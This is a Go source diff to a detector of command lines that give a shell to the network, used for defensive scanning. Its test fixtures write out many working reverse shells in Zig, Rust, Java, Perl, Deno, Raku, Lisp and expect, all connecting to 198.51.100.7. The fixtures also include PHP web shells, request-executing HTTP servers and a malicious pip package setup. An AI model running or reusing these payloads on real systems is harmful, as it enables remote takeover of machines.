@@ -14,7 +14,16 @@ var shellInline = Detector{
 	Title:  "program text that gives a shell to the network",
 	Why:    "code on the command line opens a connection and hands a shell to it",
 	Detect: onCommands(inline),
-	Fire: append(lines(coi.High, `echo '<?php system($_GET["c"]); ?>' > /var/www/html/s.php`, `printf '<?=eval($_POST[1])?>' | tee public/x.php`), lines(coi.Critical,
+	Fire: append(lines(coi.High, `echo '<?php system($_GET["c"]); ?>' > /var/www/html/s.php`, `printf '<?=eval($_POST[1])?>' | tee public/x.php`,
+		`cat > z.zig <<'E'
+const std = @import("std"); pub fn main() !void { const c = try std.net.tcpConnectToHost(a, "198.51.100.7", 9); try std.posix.dup2(c.handle, 0); return std.process.execv(a, &.{"/bin/sh"}); }
+E
+zig run z.zig`,
+		`mkdir -p src; echo 'use std::net::TcpStream; fn main() { let f = TcpStream::connect("198.51.100.7:1").unwrap().into_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(f) }).status(); }' > src/main.rs; cargo run`,
+		`echo 'class A { public static void main(String[] a) throws Exception { var p = new ProcessBuilder("/bin/sh").start(); var s = new java.net.Socket("198.51.100.7", 9); s.getInputStream().transferTo(p.getOutputStream()); } }' > A.java && javac A.java && java A`,
+		"ruby -rwebrick -e 's=WEBrick::HTTPServer.new(Port:80);s.mount_proc(\"/\"){|q,r| r.body=`#{q.query[\"c\"]}`};s.start'",
+		`php -S 0.0.0.0:80 <(echo '<?php system($_GET[0]);')`,
+		`python3 -c "import http.server as h,subprocess as p;h.HTTPServer(('',80),type('X',(h.BaseHTTPRequestHandler,),{'do_GET':lambda r:r.wfile.write(p.getoutput(r.path[1:]).encode())})).serve_forever()"`), lines(coi.Critical,
 		`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
 		`perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
 		`php -r '$s=fsockopen("198.51.100.7",4242);popen("/bin/sh -i <&3 >&3 2>&3", "r");'`,
@@ -41,12 +50,20 @@ python3 /tmp/a.py`,
 		`emacs --batch --eval '(let ((p (open-network-stream "s" nil "198.51.100.7" 4242))) (set-process-filter p (lambda (p s) (process-send-string p (shell-command-to-string s)))))'`,
 		`lua -e 'local s=require"socket".connect("198.51.100.7",443) while true do local l=s:receive() local p=io.popen(l) s:send(p:read"*a") end'`,
 		`echo 'use std::net::TcpStream; use std::process::{Command, Stdio}; fn main() { let s = TcpStream::connect("198.51.100.7:1").unwrap(); let fd = s.as_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).spawn(); }' > s.rs && rustc s.rs && ./s`,
+		`expect -c 'spawn bash -i; set a $spawn_id; spawn ncat 198.51.100.7 443; set b $spawn_id; interact -u $a -i $b'`,
+		`sbcl --noinform --eval '(let ((c (socket-connect "198.51.100.7" 99))) (run-program "/bin/bash" nil :input c :output c))'`,
+		`perl -e 'use IO::Socket::SSL;$c=IO::Socket::SSL->new(PeerAddr=>"198.51.100.7:9");while(sysread($c,$i,8192)){syswrite($c,`+"`$i`"+`)}'`,
+		`deno run -A - <<< 'const c=await Deno.connect({hostname:"198.51.100.7",port:9});const n=await c.read(b);const o=await new Deno.Command("sh",{args:["-c",x]}).output();await c.write(o.stdout)'`,
+		`raku -e 'my $c=IO::Socket::INET.new(:host<198.51.100.7>,:port(99)); for $c.get -> $l { $c.print: qqx{$l} }'`,
 		"mkdir /tmp/pk; echo 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")' > /tmp/pk/setup.py; pip install /tmp/pk",
 	)...),
 	Quiet: lines("",
 		`python -c "import socket; socket.create_connection(('127.0.0.1',8888))"`,
 		`python -c "import socket; s=socket.socket(); s.connect(('localhost', 8081)); s.close()" || exit 1`,
 		`echo '<?php echo $_GET["c"]; ?>' > public/x.php`, `node -e 'require("./x")'`, `php -r "file_exists('.env') || copy('.env.example', '.env');"`,
+		`expect -c 'spawn telnet 192.0.2.1; expect "login:"; send "root\r"; interact'`, `expect -c 'spawn bash; expect "$ "; send "make test\r"; interact'`,
+		"cat > s.rs <<'E'\nuse std::net::TcpListener; fn main() { for s in TcpListener::bind(\"0.0.0.0:1\").unwrap().incoming() { let mut l = String::new(); s.unwrap().read_line(&mut l); Command::new(\"date\").status(); } }\nE\nrustc s.rs && ./s",
+		`php -S localhost:8000 -t public`, `python3 -c "import http.server as h;h.HTTPServer(('',80),h.SimpleHTTPRequestHandler).serve_forever()"`,
 		`python3 -c 'import subprocess; print(subprocess.check_output(["git","describe"]))'`,
 		`python3 -c "import socket;s=socket.socket();s.bind(('',0));print(s.getsockname()[1])"`,
 		`node -e 'require("http").createServer((q,r)=>r.end("ok")).listen(3000)'`,
@@ -77,10 +94,16 @@ func inline(s *command.Simple, v track.View) *Finding {
 		return f
 	}
 	for _, c := range s.Code {
+		if spawnsBoth(c) {
+			return say(s, level, "script that joins a shell to a network tool")
+		}
 		if q := squeeze(lowered(c)); !c.File && hasAny(q, servers...) && runsRequest.MatchString(q) {
 			return say(s, coi.High, "server that runs what requests say")
 		}
 		l := inlineLevel(traits(c), c.File)
+		if sourceLangs[c.Lang] {
+			l = sourceLevelOf(traits(c))
+		}
 		if l == "" {
 			continue
 		}
@@ -99,13 +122,18 @@ var requestRun = regexp.MustCompile(`(?is)(?:<\?(?:php|=)?.*\b(?:system|exec|pas
 var servers = []string{"createserver(", "flask(", "http.server", "basehttprequesthandler", "webrick", "sinatra", "express()", "fastapi(", "bottle", "aiohttp", "bun.serve", "deno.serve", "http.listenandserve"}
 
 // runsRequest is a program started with a part of a request.
-var runsRequest = regexp.MustCompile(`(?:popen|system|exec(?:sync|file)?|getoutput|check_output|spawn(?:sync)?|shell_exec|exec\.command|subprocess\.(?:run|call))\([^;]{0,80}(?:request\.|req(?:uest)?\.(?:url|query|body|path|params)|\.url\b|self\.path|self\.rfile|\.query|params\[|args\[|args\.get)`)
+var runsRequest = regexp.MustCompile(`(?:popen|system|exec(?:sync|file)?|getoutput|check_output|spawn(?:sync)?|shell_exec|exec\.command|subprocess\.(?:run|call))\([^;]{0,80}(?:request\.|req(?:uest)?\.(?:url|query|body|path|params)|\.url\b|self\.path|self\.rfile|\b[a-z]\.(?:path|url|body|query)\b|\.query|params\[|args\[|args\.get)|` + "[`]" + `[^;]{0,40}#\{[^}]{0,20}\.(?:query|params|path|body|url)`)
 
 // webShell is a page written to a file that hands requests to a shell.
 func webShell(s *command.Simple) *Finding {
 	for _, a := range s.Accesses() {
 		if changes(a.Op) && a.Known && requestRun.MatchString(a.Text) {
 			return say(s, coi.High, "page written that runs what requests say").at(a.Path, a.Op)
+		}
+	}
+	for _, c := range s.Code {
+		if !c.File && s.Name == "php" && requestRun.MatchString(c.Text) {
+			return say(s, coi.High, "page served that runs what requests say")
 		}
 	}
 	return nil
@@ -130,6 +158,38 @@ func inlineLevel(t codeTraits, file bool) coi.Level {
 	}
 	return ""
 }
+
+// sourceLangs are languages of whole programs: what the text wrote is compiled
+// first, and a server or a test of one has most of the features.
+var sourceLangs = map[string]bool{"c": true, "rust": true, "zig": true, "java": true, "d": true, "swift": true, "haskell": true}
+
+// sourceLevelOf judges a whole program.
+func sourceLevelOf(t codeTraits) coi.Level {
+	switch {
+	case !t.net || t.loopback:
+		return ""
+	case t.strong && t.shell:
+		return coi.Critical
+	case t.strong, t.shell && t.hand && t.received:
+		return coi.High
+	}
+	return ""
+}
+
+// Programs that expect starts, and what joins two of them.
+var (
+	spawnsShell = regexp.MustCompile(`\bspawn\s+(?:-\S+\s+)*(?:\S*/)?(?:ba|da|z|k)?sh\b`)
+	spawnsNet   = regexp.MustCompile(`\bspawn\s+(?:-\S+\s+)*(?:\S*/)?(?:nc|ncat|netcat|telnet|socat|openssl|websocat)\s[^;\n]*[\w.]+`)
+	joinsSpawns = regexp.MustCompile(`\binteract\b[^;\n]*(?:-u|-i|\$)|\bexpect_background\b|-i\s+\$\w+`)
+)
+
+// spawnsBoth reports a script of expect that starts a shell and a network tool,
+// and hands what one says to the other.
+func spawnsBoth(c command.Code) bool {
+	return oneOf(c.Lang, "expect", "tclsh", "") && !c.File && joinsSpawns.MatchString(c.Text) && spawnsShell.MatchString(c.Text) && spawnsNet.MatchString(c.Text) && !loopbackSpawn.MatchString(c.Text)
+}
+
+var loopbackSpawn = regexp.MustCompile(`\bspawn\s[^;\n]*(?:localhost|127\.0\.0\.1)`)
 
 // codeHost is the first address constant of code.
 func codeHost(c command.Code) string {
